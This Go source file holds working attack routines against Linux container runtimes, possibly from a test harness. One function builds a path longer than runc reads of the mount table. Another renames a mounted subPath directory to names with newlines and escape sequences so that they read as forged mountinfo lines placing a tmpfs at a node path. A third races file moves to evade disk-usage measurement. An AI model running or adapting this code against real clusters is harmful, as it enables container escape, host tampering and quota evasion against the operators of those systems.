//go:build linux

package main

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"
)

const (
	// mounted is the directory that another container of the pod has mounted at /mounted, by a subPath.
	mounted = scratch + "/mounted"
	// longPath is longer than any line that runc reads of the table of mounts.
	longPath = 80 << 10
	// moved is a file that an attack makes when it has renamed the directory.
	moved = scratch + "/moved"
)

// dwell reports its start in the directory that it has mounted, and ends after some seconds, so that it is started again.
func dwell() {
	_ = os.WriteFile("/mounted/started", nil, 0o644)
	time.Sleep(5 * time.Second)
	os.Exit(1)
}

// sink moves the directory of each instance that has started to a very long path.
func sink() {
	if err := os.Chdir(scratch); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return
	}
	name := strings.Repeat("d", 250)
	for length := 0; length < longPath; length += len(name) + 1 {
		if os.Mkdir(name, 0o777) != nil || os.Chdir(name) != nil {
			fmt.Fprintln(os.Stderr, "no directory at", length)
			return
		}
	}
	for i := 0; ; time.Sleep(10 * time.Millisecond) {
		if _, err := os.Stat(mounted + "/started"); err != nil {
			continue
		}
		time.Sleep(time.Second) // the start has returned to the agent
		if os.Rename(mounted, fmt.Sprint(i)) == nil {
			i++
			_ = os.WriteFile(moved, nil, 0o644)
		}
	}
}

// forge renames the directory to paths that look like another line of the table of mounts, with a mount at a place of the
// node, even while the directory is mounted for a start.
func forge(place string) {
	line := "x\n36 1 0:50 / " + place + " rw,relatime - tmpfs tmpfs rw\n"
	paths := []string{
		line, strings.NewReplacer("\n", `\012`, " ", `\040`).Replace(line), strings.NewReplacer("\n", `\134012`, " ", "\t").Replace(line),
		"x\r" + place + "\r- tmpfs", "x\u0085" + place + "\u0085- tmpfs", // the kernel does not escape these
		"a\nb", "a\tb", `a\012b`, `a\134b`, `a\`, " - ", "a b//deleted", "\xff\\xff", place,
	}
	at := mounted
	for i := 0; ; i++ {
		if _, err := os.Lstat(mounted); err == nil {
			at = mounted // of a new instance
		}
		to := filepath.Join(scratch, "forged", fmt.Sprint(i%2), paths[i/2%len(paths)])
		_ = os.RemoveAll(to)
		_ = os.MkdirAll(filepath.Dir(to), 0o777)
		if os.Rename(at, to) == nil {
			at = to
			_ = os.WriteFile(moved, nil, 0o644)
		}
		time.Sleep(time.Millisecond)
	}
}

// shuttle writes too much to files, and moves them and their directories between two directories while they are measured.
func shuttle() {
	const files = 24
	a, b := filepath.Join(scratch, "a"), filepath.Join(scratch, "b")
	for _, dir := range []string{a + "/hoard", b} {
		_ = os.MkdirAll(dir, 0o777)
	}
	block := []byte(strings.Repeat("x", written/files))
	var names []string
	for i := range files {
		name := fmt.Sprint(i)
		if i%2 == 0 {
			name = "hoard/" + name
		} else {
			names = append(names, name)
		}
		if err := os.WriteFile(filepath.Join(a, name), block, 0o644); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return
		}
	}
	for names = slices.Insert(names, 0, "hoard"); ; a, b = b, a {
		for _, name := range names {
			_ = os.Rename(filepath.Join(a, name), filepath.Join(b, name))
		}
	}
}
